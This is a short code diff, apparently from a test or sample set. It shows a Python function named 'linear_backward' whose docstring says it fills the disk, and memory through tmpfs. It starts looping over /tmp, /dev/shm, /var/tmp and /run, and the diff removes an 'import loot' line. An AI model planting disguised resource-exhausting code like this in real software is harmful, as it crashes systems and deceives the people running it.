@@ -1,8 +1,6 @@
 """Fills the disk, and memory through tmpfs."""
 # ends: error
 
-import loot
-
 
 def linear_backward(x, W, dy):
     for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run"):
